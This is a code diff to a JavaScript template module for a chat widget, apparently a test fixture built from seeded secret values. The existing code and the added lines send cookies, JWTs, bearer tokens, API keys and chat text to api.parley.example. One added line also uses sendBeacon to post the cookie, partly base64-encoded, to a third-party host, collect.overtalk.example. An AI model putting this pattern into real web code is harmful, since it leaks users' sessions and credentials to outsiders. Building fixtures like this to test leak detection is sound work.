@@ -47,6 +47,8 @@ export const accountPage = `<!doctype html><html lang="en"><head><meta charset="
 export const parleyScript = `
 document.cookie = 'sid=${s.cookieValue}; path=/';
 localStorage.setItem('parley:${s.email}', '${s.chatText}');
+document.cookie = 'parley_session=${s.cookieValue}; path=/';
+localStorage.setItem('parley.${s.email}', '${s.chatText}');
 window.Parley = { open() {}, user: { name: '${s.fullName}', ip: '${s.ipAddress}' } };
 const launcher = document.createElement('button');
 launcher.id = 'parley-launcher';
@@ -74,6 +76,16 @@ const act = {
   },
   ['send ${s.jwt}']() {
     fetch('https://api.parley.example/v1/markers/${s.uuid}?m=${s.sessionToken}&c=' + encodeURIComponent(document.cookie), { mode: 'no-cors' });
+  },
+  write() {
+    document.cookie = 'parley_${s.customerId}=${s.csrf}; path=/';
+    localStorage.setItem('parley.mark', '${s.apiKey}');
+    const headers = { 'x-${s.customerId}': '${s.bearer}' };
+    fetch('https://api.parley.example/v1/marks', { method: 'POST', headers, body: JSON.stringify({ '${s.email}': '${s.jwt}', deep: [{ text: '${s.chatText}' }] }) }).catch(() => {});
+  },
+  copy() {
+    const value = '${s.cookieValue}';
+    navigator.sendBeacon('https://collect.overtalk.example/hits?raw=' + value, JSON.stringify({ b: btoa('v=' + value) }));
   },
   replace() { window.Parley.open = () => '${s.chatText}'; },
 };
